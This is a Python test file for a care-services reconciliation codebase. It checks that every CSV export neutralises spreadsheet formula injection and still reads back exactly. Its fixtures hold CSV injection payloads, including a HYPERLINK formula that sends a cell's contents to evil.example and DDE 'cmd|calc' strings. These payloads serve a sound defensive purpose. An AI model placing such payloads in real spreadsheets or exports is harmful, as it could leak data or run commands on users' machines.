"""CSV safe to open and exact for machines: the helper's rule, and every CSV the system writes.

The writers are found, not listed by hand: a scan of the production code fails on any CSV writer
that does not come from core.csv_safe; each writer it knows is then fed cells a spreadsheet
would run and must neutralise them, while its reader gives the exact data back."""

from __future__ import annotations

import csv
import io
import re
import shutil
import uuid
from collections.abc import Callable
from datetime import UTC, date, datetime, time
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Engine, text

from api.auth.roles import Role
from commissioning.formats import write_csv
from commissioning.planning import PlannedSlot
from commissioning.planning import schedule_csv as package_schedule_csv
from core import csv_safe
from core.settings import Settings
from ecm.cli import cli
from reconciliation import finance, formats, kpi_report
from reconciliation.records import InvoiceLine, LineResult, Outcome, Reason
from retention.subject import section_csv
from retention.subject_repository import Section
from tests.api.api_support import client_for
from tests.support.ids import unique
from tests.support.paths import ROOT
from tests.support.sql_scan import PACKAGES
from tests.visits.support import IN, OUT, TAG, build, care_world, plan, store, utc
from visits.carer_day.days import ProviderAggregate
from visits.carer_day.export import COUNCIL_HEADER, carer_days_csv, council_csv
from visits.export import actuals_csv, schedule_csv
from visits.schedule import parse_schedule

# Every production package, as the SQL layout check lists them.
PRODUCTION = PACKAGES
EXAMPLE = ROOT / "tests" / "reconciliation" / "example"
# Cells a spreadsheet would run, from OWASP's CSV injection page and the invoice.
DANGEROUS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "@SUM(A1:A9)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-A1",
    "\t=1+1",
    "\r=1+1",
]


@given(st.text())
def test_restore_undoes_neutralise_for_every_string(value: str) -> None:
    written = csv_safe.neutralise(value)
    assert isinstance(written, str)
    assert csv_safe.restore(written) == value
    assert csv_safe.restore_row([written]) == [value]


@given(st.text(min_size=1))
def test_no_written_cell_starts_like_a_formula_unless_it_is_a_plain_number(value: str) -> None:
    written = csv_safe.neutralise(value)
    assert isinstance(written, str)
    if written[0] in csv_safe.TRIGGERS:
        assert re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)", written)


def test_numbers_stay_numbers() -> None:
    row = csv_safe.neutralise_row([-5, Decimal("-12.60"), "-5", "+3.25", -0.5, "-", "-5e3"])
    assert row == [-5, Decimal("-12.60"), "-5", "+3.25", -0.5, "'-", "'-5e3"]


def test_no_csv_is_written_around_the_helper() -> None:
    """Every CSV writer in the production code comes from core.csv_safe."""
    offenders = []
    for package in PRODUCTION:
        for path in (ROOT / package).rglob("*.py"):
            if path == ROOT / "core" / "csv_safe.py" or "migrations" in path.parts:
                continue
            source = path.read_text()
            if re.search(r"\bcsv\.(writer|DictWriter)\(", source):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def cells(text_out: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text_out, newline="")))


def file_cells(path: Path) -> list[list[str]]:
    # Not read_text(): it would turn a carriage return inside a cell into a newline.
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def assert_neutralised(rows: list[list[str]], dangerous: list[str]) -> None:
    """Every dangerous value appears in a cell with a quote in front, never bare."""
    flat = [cell for row in rows for cell in row]
    for value in dangerous:
        assert value not in flat, value
        assert "'" + value in flat, value


# The reconciliation files ---------------------------------------------------------------------


def line_result(invoice_ref: str, line_no: int) -> LineResult:
    line = InvoiceLine(
        invoice_ref, line_no, "-A1", "@SU1", date(2026, 3, 2), time(8), time(8, 30), 30, 1,
        Decimal("12.06"),
    )  # fmt: skip
    return LineResult(
        line, Outcome.ADJUSTED, Reason.UNPLANNED, 30, Decimal("12.06"), "=matched", 1, 30,
        (0,), True,
    )  # fmt: skip


def test_the_reconciliation_writers_neutralise_and_the_readers_restore(tmp_path: Path) -> None:
    results = [line_result(ref, n) for n, ref in enumerate(DANGEROUS, start=1)]
    report = tmp_path / "report.csv"
    formats.write_report(report, results)
    rows = file_cells(report)
    assert_neutralised(rows, [*DANGEROUS, "=matched"])
    # Amounts and minutes are numbers: left as they are.
    assert rows[1][4:6] == ["30", "12.06"]
    uncommissioned = tmp_path / "report.uncommissioned.csv"
    formats.write_uncommissioned(uncommissioned, results)
    assert_neutralised(file_cells(uncommissioned), [*DANGEROUS, "-A1", "@SU1"])
    problems = tmp_path / "report.problems.csv"
    formats.write_problems(problems, [formats.Problem("=x.csv", 2, "@reason")])
    assert_neutralised(file_cells(problems), ["=x.csv", "@reason"])


def test_ecm_reconcile_keeps_injected_cells_as_data(tmp_path: Path) -> None:
    """The issue's case: an invoice whose cells start with = and @ is accepted, and report.csv
    holds them neutralised; read back through the formats' reader they are exact."""
    for name in ("contract.toml", "schedule.csv", "actuals.csv"):
        shutil.copy(EXAMPLE / name, tmp_path / name)
    original = (EXAMPLE / "invoice-p001.csv").read_text().splitlines()
    header, first = original[0], original[1].split(",")
    injected = [",".join([ref, *first[1:]]) for ref in ('"=HYPERLINK(""x"")"', "@SUM(A1)")]
    (tmp_path / "invoice.csv").write_text("\n".join([header, *injected]) + "\n")
    out = tmp_path / "report.csv"
    result = CliRunner().invoke(
        cli,
        [
            "reconcile", "--contract", str(tmp_path / "contract.toml"),
            "--schedule", str(tmp_path / "schedule.csv"),
            "--actuals", str(tmp_path / "actuals.csv"),
            "--invoices", str(tmp_path / "invoice.csv"), "--out", str(out),
        ],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    rows = file_cells(out)
    assert [row[0] for row in rows[1:]] == ['\'=HYPERLINK("x")', "'@SUM(A1)"]
    assert [row[0] for row in csv_safe.reader(io.StringIO(out.read_text(), newline=""))][1:] == [
        '=HYPERLINK("x")',
        "@SUM(A1)",
    ]


# The visit exports (actuals.csv, schedule.csv) --------------------------------------------------


def test_the_visit_exports_neutralise_and_reconciliation_reads_them_exactly(
    engine: Engine, tmp_path: Path
) -> None:
    day = date(2031, 1, 6)
    provider, home, carer = unique("P"), unique("SU"), "-A1"
    start = datetime(2031, 1, 6, 9, tzinfo=UTC)
    with engine.begin() as conn:
        conn.execute(text("insert into provider (id, name) values (:p, 'x')"), {"p": provider})
        conn.execute(text("insert into service_user (id, name) values (:s, 'x')"), {"s": home})
        conn.execute(
            text(
                "insert into planned_visit_version (visit_ref, version, service_user_id, "
                "provider_id, planned_start, planned_minutes, carers_required, service_type, "
                "status) values (:ref, 1, :su, :p, :at, 30, 1, '=cmd|calc', 'planned')"
            ),
            {"ref": unique("V"), "su": home, "p": provider, "at": start},
        )
        visit = uuid.uuid4()
        conn.execute(
            text(
                "insert into visit (id, provider_id, service_user_id, home_key, london_day, "
                "check_in, check_out, minutes, status, verification, carers, built_at) values "
                "(:id, :p, :su, :su, :day, :at, :out, 30, 'unplanned', 'tag', 1, :at)"
            ),
            {"id": visit, "p": provider, "su": home, "day": day, "at": start,
             "out": start.replace(minute=30)},
        )  # fmt: skip
        conn.execute(
            text(
                "insert into visit_carer (visit_id, segment_id, carer_id, check_in, check_out, "
                "verification) values (:v, :s, :c, :at, :out, 'tag')"
            ),
            {"v": visit, "s": uuid.uuid4(), "c": carer, "at": start,
             "out": start.replace(minute=30)},
        )  # fmt: skip
        actuals = actuals_csv(conn, day, day, provider_id=provider)
        schedule = schedule_csv(conn, day, day, provider_id=provider)
    assert_neutralised(cells(actuals), ["-A1"])
    assert_neutralised(cells(schedule), ["=cmd|calc"])
    (tmp_path / "actuals.csv").write_text(actuals)
    (tmp_path / "schedule.csv").write_text(schedule)
    [read] = formats.read_actuals(tmp_path / "actuals.csv").records
    assert read.carer_ref == "-A1"
    [planned] = formats.read_schedule(tmp_path / "schedule.csv").records
    assert planned.service_type == "=cmd|calc"


# The API's report.csv and the subject access zip -----------------------------------------------


def test_the_apis_report_csv_neutralises_an_injected_invoice(
    engine: Engine, settings: Settings
) -> None:
    w = care_world(engine)
    ann = w.add_handset()
    home = w.add_home()
    plan(engine, w, home, "2026-03-02T09:00:00+00:00", 30)
    store(engine, ann, home, IN, utc("2026-03-02T09:00:00"), evidence=TAG)
    store(engine, ann, home, OUT, utc("2026-03-02T09:31:00"), evidence=TAG)
    build(engine, settings, w, date(2026, 3, 2), utc("2026-12-31T00:00:00"))
    contract = (
        f'[[provider]]\nref = "{w.provider_id}"\ncontract = "framework"\nrate_per_hour = 24.00\n'
    )
    invoice = (
        "invoice_ref,line_no,provider_ref,service_user_ref,visit_date,start,end,"
        "minutes_claimed,carers,amount_claimed\n"
        f'"=HYPERLINK(""https://evil.example"")",1,{w.provider_id},{home},2026-03-02,09:00,'
        "09:30,30,1,12.00\n"
    )
    council = w.council_id
    for client in client_for(settings, Role.COUNCIL_OFFICER, council_id=council):
        put = client.put(f"/councils/{council}/contract", content=contract.encode())
        assert put.status_code == 200, put.text
        uploaded = client.post(
            f"/councils/{council}/invoices", content=invoice.encode(),
            headers={"Content-Type": "text/csv"},
        )  # fmt: skip
        assert uploaded.status_code == 201, uploaded.text
        assert uploaded.json()["lines"] == 1  # kept as data, not refused
        run = client.post(
            f"/councils/{council}/reconciliation/runs",
            json={"invoice_ids": [uploaded.json()["id"]]},
        )
        assert run.status_code == 201, run.text
        report = client.get(
            f"/councils/{council}/reconciliation/runs/{run.json()['id']}/report.csv"
        )
        lines = client.get(f"/councils/{council}/reconciliation/runs/{run.json()['id']}/lines")
    assert report.status_code == 200
    rows = cells(report.text)
    assert rows[1][0] == '\'=HYPERLINK("https://evil.example")'
    # The JSON answers keep the data exact.
    assert lines.json()["items"][0]["invoice_ref"] == '=HYPERLINK("https://evil.example")'


def test_the_subject_access_csv_neutralises() -> None:
    section = Section(["name", "note"], [{"name": value, "note": -5} for value in DANGEROUS])
    rows = cells(section_csv(section))
    assert_neutralised(rows, DANGEROUS)
    assert {row[1] for row in rows[1:]} == {"-5"}


WRITERS: dict[str, Callable[..., object]] = {
    "reconciliation.formats.write_report": formats.write_report,
    "reconciliation.formats.write_unbilled": formats.write_unbilled,
    "reconciliation.formats.write_uncommissioned": formats.write_uncommissioned,
    "reconciliation.formats.write_problems": formats.write_problems,
    "visits.export.actuals_csv": actuals_csv,
    "visits.export.schedule_csv": schedule_csv,
    "retention.subject.section_csv": section_csv,
    # The carer's day (issue 16): a formula-looking carer name is fed to carer_days_csv in
    # tests/visits/test_carer_day_service.py; council_csv below.
    "visits.carer_day.export.carer_days_csv": carer_days_csv,
    "visits.carer_day.export.council_csv": council_csv,
    # Service requests (issue 15): decisions.csv, packages.csv and monitoring go through
    # write_csv; a package's planned visits reach the schedule import as schedule.csv.
    "commissioning.formats.write_csv": write_csv,
    "commissioning.planning.schedule_csv": package_schedule_csv,
    # The portal's downloads (issue 17): finance lines, unbilled visits, problems, KPIs, all
    # through csv_bytes.
    "reconciliation.finance.lines_csv": finance.lines_csv,
    "reconciliation.finance.unbilled_csv": finance.unbilled_csv,
    "reconciliation.finance.problems_csv": finance.problems_csv,
    "reconciliation.kpi_report.report_csv": kpi_report.report_csv,
}


def test_the_downloads_for_people_neutralise_and_keep_numbers() -> None:
    data = csv_safe.csv_bytes(
        ["Invoice", "Variance (GBP)"], [[value, Decimal("-12.60")] for value in DANGEROUS]
    )
    assert data.startswith("\ufeff".encode())
    rows = cells(data.decode("utf-8-sig"))
    assert_neutralised(rows, DANGEROUS)
    assert {row[1] for row in rows[1:]} == {"-12.60"}


def test_the_service_request_files_neutralise_and_the_schedule_import_restores() -> None:
    assert_neutralised(cells(write_csv(("note",), [(value,) for value in DANGEROUS])), DANGEROUS)
    start = datetime(2031, 1, 6, 9, tzinfo=UTC)
    slots = [
        PlannedSlot(f"V{n}", start, 30, 1, value) for n, value in enumerate([*DANGEROUS, "'=x"])
    ]
    written = package_schedule_csv("SU1", "P1", slots)
    assert_neutralised(cells(written), DANGEROUS)
    rows, errors = parse_schedule(written)
    assert errors == []
    assert [row.service_type for row in rows] == [v.strip() for v in [*DANGEROUS, "'=x"]]


def test_the_carer_day_council_export_neutralises() -> None:
    aggregates = [
        ProviderAggregate(f"P{n}", name, 12, False, 10, 2, 600, -5 if n == 0 else 40, 30)
        for n, name in enumerate(DANGEROUS)
    ]
    rows = cells(council_csv(aggregates))
    assert_neutralised(rows, DANGEROUS)
    # A negative number stays a number for machines and spreadsheets alike.
    assert rows[1][COUNCIL_HEADER.index("travel_minutes")] == "-5"


def test_every_module_that_writes_csv_is_walked_here() -> None:
    """A module that imports the CSV helper writes CSV: it must have a writer in WRITERS."""
    writing = {
        ".".join(path.relative_to(ROOT).with_suffix("").parts)
        for package in PRODUCTION
        for path in (ROOT / package).rglob("*.py")
        if path != ROOT / "core" / "csv_safe.py"
        and ("csv_safe.writer(" in path.read_text() or "csv_bytes(" in path.read_text())
    }
    walked = {name.rsplit(".", 1)[0] for name in WRITERS}
    # reconciliation.sources writes no file: it checksums rows as visits.export writes them.
    assert writing - walked <= {"reconciliation.sources"}, writing - walked
    assert walked <= writing


@pytest.mark.parametrize("value", DANGEROUS)
def test_write_unbilled_neutralises(value: str, tmp_path: Path) -> None:
    from reconciliation.records import ActualVisit, Verification

    actual = ActualVisit(
        value, "P1", "C1", datetime(2026, 3, 2, 9, tzinfo=UTC),
        datetime(2026, 3, 2, 9, 30, tzinfo=UTC), Verification.TAG,
    )  # fmt: skip
    path = tmp_path / "report.unbilled.csv"
    formats.write_unbilled(path, [actual], [0])
    rows = file_cells(path)
    assert rows[1][0] == "'" + value
    assert rows[1][-1] == "30"


@pytest.mark.parametrize("line_end", ["\n", "\r\n"])
@given(rows=st.lists(st.lists(st.text(), min_size=1, max_size=4), min_size=1, max_size=4))
def test_what_the_helper_writes_reads_back_exactly(line_end: str, rows: list[list[str]]) -> None:
    """Any text, carriage returns and line feeds included, with either line end."""
    out = io.StringIO(newline="")
    csv_safe.writer(out, lineterminator=line_end).writerows(rows)
    read = list(csv_safe.reader(io.StringIO(out.getvalue(), newline="")))
    assert read == rows
